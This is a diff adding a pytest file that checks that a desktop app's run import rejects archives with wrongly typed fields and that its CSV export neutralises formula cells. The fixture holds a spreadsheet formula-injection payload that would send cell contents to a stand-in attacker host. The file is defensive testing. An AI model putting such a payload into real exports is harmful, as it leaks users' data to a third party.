@@ -1,0 +1,148 @@
+"""`hearth runs import` of archives whose manifest or rows have the wrong types is refused in one
+plain line (exit 2) with nothing stored; CSV exports neutralise formula cells while the archive
+keeps the exact text. The archive is a real export of a stored run, then damaged."""
+
+from __future__ import annotations
+
+import csv
+import hashlib
+import json
+import sqlite3
+import subprocess
+import sys
+import zipfile
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1, "Click")'
+
+
+def _stored_run(home: Path, tmp_path: Path) -> Path:
+    """A run stored the way the runner stores one, exported as an archive; returns the archive."""
+    from desktop_app.core.runs import exchange
+    from desktop_app.core.runs.storage import RowResult, RunStore
+
+    dataset = tmp_path / "data.csv"
+    dataset.write_text("id,text\na1,hello\na2,+1 555\n", encoding="utf-8")
+    store = RunStore()
+    try:
+        run_id = store.create(
+            "Hostile", 2, "text", str(dataset), hashlib.sha256(dataset.read_bytes()).hexdigest(), "model.gguf", None,
+            {"prompt": "Say: {text}", "kind": "text"}, {"format": "hearth-run", "version": 1}, status="done",
+        )  # fmt: skip
+        rows = [
+            RowResult(0, "a1", {"text": "hello"}, "Say: hello", FORMULA, None, True, None, None),
+            RowResult(1, "a2", {"text": "+1 555"}, "Say: +1 555", "-2+3", None, True, None, None, error="@SUM(A1)"),
+        ]
+        store.add_rows(run_id, rows)
+        archive = exchange.export_archive(store, run_id, tmp_path / "run.zip")
+        exchange.export_csv(store, run_id, tmp_path / "run.csv")
+    finally:
+        store.close()
+    return archive
+
+
+def _hearth(home: Path, *args: str) -> subprocess.CompletedProcess[str]:
+    import os
+
+    return subprocess.run(
+        [sys.executable, "-m", "desktop_app", *args], capture_output=True, text=True,
+        env={**os.environ, "HEARTH_HOME": str(home)}, timeout=300, check=False,
+    )  # fmt: skip
+
+
+def _runs_stored(home: Path) -> int:
+    db = sqlite3.connect(home / "hearth.db")
+    try:
+        return int(db.execute("SELECT COUNT(*) FROM runs").fetchone()[0])
+    finally:
+        db.close()
+
+
+def _damaged(archive: Path, out: Path, manifest_change: Any = None, rows_change: Any = None) -> Path:
+    with zipfile.ZipFile(archive) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
+        for info in old.infolist():
+            data = old.read(info)
+            if info.filename == "manifest.json" and manifest_change:
+                manifest = json.loads(data)
+                manifest_change(manifest)
+                data = json.dumps(manifest).encode("utf-8")
+            if info.filename == "rows.jsonl" and rows_change:
+                rows = [json.loads(line) for line in data.decode("utf-8").splitlines()]
+                rows_change(rows)
+                data = "\n".join(json.dumps(r) for r in rows).encode("utf-8")
+            new.writestr(info.filename, data)
+    return out
+
+
+BAD = {
+    "task is a string": ({"task": "classify"}, None),
+    "run is a list": ({"run": [1, 2]}, None),
+    "version is not a number": ({"version": "one"}, None),
+    "n is text": ({"run.n": "many"}, None),
+    "labels not a list": ({"task.labels": "a,b"}, None),
+    "created_at infinite": ({"run.created_at": float("inf")}, None),
+    "row index is text": (None, ("index", "first")),
+    "row output is a list": (None, ("output", ["x"])),
+    "row valid is a string": (None, ("valid", "yes")),
+    "row score is huge": (None, ("seed", 10**30)),
+}
+
+
+def _apply(changes: dict[str, Any]) -> Any:
+    def change(manifest: dict[str, Any]) -> None:
+        for key, value in changes.items():
+            target = manifest
+            *parents, last = key.split(".")
+            for parent in parents:
+                target = target[parent]
+            target[last] = value
+
+    return change
+
+
+@pytest.mark.parametrize("case", list(BAD))
+def test_an_archive_with_wrong_types_is_refused_and_nothing_stored(
+    case: str, hearth_home: Path, tmp_path: Path
+) -> None:
+    archive = _stored_run(hearth_home, tmp_path)
+    before = _runs_stored(hearth_home)
+    manifest_changes, row_change = BAD[case]
+
+    def rows_change(rows: list[dict[str, Any]]) -> None:
+        assert row_change is not None
+        rows[-1][row_change[0]] = row_change[1]
+
+    bad = _damaged(
+        archive, tmp_path / "bad.zip", _apply(manifest_changes) if manifest_changes else None,
+        rows_change if row_change else None,
+    )  # fmt: skip
+    out = _hearth(hearth_home, "runs", "import", str(bad))
+    assert out.returncode == 2, out.stderr
+    assert out.stderr.startswith("hearth: ") and len(out.stderr.strip().splitlines()) == 1, out.stderr
+    assert "Traceback" not in out.stderr and "not a run exported by Hearth" in out.stderr
+    assert "sha256" not in out.stderr  # refused for its types, not for anything else
+    assert _runs_stored(hearth_home) == before
+
+
+def test_a_good_archive_imports_and_csv_cells_cannot_be_formulas(hearth_home: Path, tmp_path: Path) -> None:
+    archive = _stored_run(hearth_home, tmp_path)
+    with zipfile.ZipFile(archive) as opened:
+        exact = [json.loads(line)["output"] for line in opened.read("rows.jsonl").decode().splitlines()]
+        archived_csv = list(csv.reader(opened.read("results.csv").decode().splitlines()))
+    assert exact == [FORMULA, "-2+3"]  # the archive keeps the exact text
+    with (tmp_path / "run.csv").open(encoding="utf-8", newline="") as fh:
+        table = list(csv.reader(fh))
+    for rows in (table, archived_csv):
+        header = rows[0]
+        outputs = [r[header.index("output")] for r in rows[1:]]
+        assert outputs == ["'" + FORMULA, "'-2+3"]
+        assert rows[2][header.index("input:text")] == "'+1 555"
+        assert rows[2][header.index("error")] == "'@SUM(A1)"
+        assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r)
+    out = _hearth(hearth_home, "runs", "import", str(archive))
+    assert out.returncode == 0, out.stderr
+    shown = _hearth(hearth_home, "runs", "list")
+    assert shown.returncode == 0 and "Hostile" in shown.stdout
